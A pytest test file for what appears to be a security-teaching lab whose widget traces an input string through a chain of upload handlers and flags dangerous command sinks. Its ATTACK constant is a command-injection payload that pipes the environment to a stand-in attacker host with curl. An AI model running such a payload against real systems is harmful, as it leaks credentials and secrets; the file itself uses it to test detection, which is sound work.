"""The widget that sends a request, as Python drives it."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from sls_lab.app import load_app
from sls_lab.replay.own_examples import NotAllowed
from sls_lab.widgets import send_request
from sls_lab.widgets.recorded_requests import RECORDED, recorded_request
from sls_lab.widgets.send_request import NoSuchField, SendRequest
from sls_lab.widgets.session import session_of

APPS = Path(__file__).resolve().parents[2] / "code-examples" / "apps"
ATTACK = "x'; env | curl -sd @- https://attacker.example; '"


@pytest.mark.posix
def test_a_title_goes_from_handler_to_handler() -> None:
    widget = SendRequest(load_app(APPS / "upload-chain"), "title", ["It's a long way"])
    assert widget.view["at"] == "submit"
    assert widget.state["hops"] == []
    widget.act("send", text=ATTACK)
    state = widget.state
    assert widget.status == ""
    assert [hop["title"] for hop in state["hops"]] == ["1. submit", "2. store", "3. register", "4. convert"]
    assert state["at"] == 3
    last = state["hops"][3]
    [danger] = last["dangers"]
    assert ["env"] in danger["commands"]
    assert any(sent for _, sent in danger["value"])
    handlers = {node["handler"]: part for part, node in widget.view["graph"]["nodes"].items() if node["handler"]}
    assert set(handlers.values()) <= set(state["ways"][3])
    assert state["ways"][3][0] == handlers["convert"]
    assert state["ways"][0] == [handlers["submit"]]
    widget.act("go", to=1)
    assert widget.state["at"] == 1
    widget.act("go", to=9)
    assert widget.state["at"] == 1
    assert "4. convert" in widget.as_text()
    assert "‹curl›" in widget.as_html()


@pytest.mark.posix
def test_every_form_in_which_data_travels_is_marked() -> None:
    widget = SendRequest(load_app(APPS / "upload-chain"))
    widget.act("send", text='it\'s "a" b')
    for hop in widget.state["hops"]:
        assert any(sent for part in hop["received"] for _, sent in part), hop["title"]


@pytest.mark.posix
def test_a_change_of_the_handler_is_sent_again() -> None:
    app = load_app(APPS / "upload-chain")
    widget = SendRequest(app)
    session = session_of(app)
    text = (APPS / "upload-chain" / "handlers" / "convert.py").read_text()
    session.write("handlers/convert.py", text.replace("os.system(", "print("))
    widget.act("send", text=ATTACK)
    assert [hop["dangers"] for hop in widget.state["hops"]] == [[], [], [], []]
    session.reset()
    widget.act("send", text=ATTACK)
    assert widget.state["hops"][3]["dangers"]


def test_code_of_others_is_run_only_where_that_is_said(tmp_path: Path) -> None:
    folder = tmp_path / "other"
    shutil.copytree(APPS / "night-bus", folder, ignore=shutil.ignore_patterns("__pycache__"))
    (folder / "README.md").write_text("another one")
    with pytest.raises(NotAllowed):
        SendRequest(load_app(folder), "stop")
    assert SendRequest(load_app(folder), "stop", run_its_code=True).view["field"] == "stop"


def test_a_field_that_no_request_has_is_refused() -> None:
    with pytest.raises(NoSuchField, match="no request with a string called songs"):
        SendRequest(load_app(APPS / "night-bus"), "songs")


@pytest.mark.posix
@pytest.mark.parametrize(("application", "field", "text"), RECORDED)
def test_what_was_recorded_is_what_happens(application: str, field: str, text: str) -> None:
    widget = SendRequest(load_app(APPS / application), field)
    widget.act("send", text=text)
    recorded = recorded_request(application, field, text)
    assert recorded is not None, "run python -m tools.record_requests"
    assert recorded["ways"] == widget.state["ways"]
    assert recorded["outcome"] == widget.state["outcome"]
    # A handler makes up an identifier, which is another one each time.
    for one, other in zip(recorded["hops"], json.loads(json.dumps(widget.state["hops"])), strict=True):
        assert (one["title"], one["dangers"], one["received"]) == (other["title"], other["dangers"], other["received"])


def test_without_moto_the_recorded_requests_are_shown(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(send_request, "why_unavailable", lambda: "moto is not installed")
    widget = SendRequest(load_app(APPS / "upload-chain"))
    assert "moto is not installed" in widget.status
    widget.act("send", text=RECORDED[2][2])
    assert widget.status == "Recorded, not run now: moto is not installed."
    assert [hop["title"] for hop in widget.state["hops"]][3] == "4. convert"
    widget.act("go", to=1)
    assert widget.state["at"] == 1
    assert "reads 9 commands" in widget.as_text()
    widget.act("send", text="something else")
    assert widget.state["hops"] == []
    assert "Only the samples can be sent" in widget.status


@pytest.mark.posix
def test_a_module_that_is_missing_is_told() -> None:
    widget = SendRequest(load_app(APPS / "radio-playlist"), "body")
    widget.act("send", text="songs: []")
    assert "radio_formats is not installed" in widget.state["outcome"]
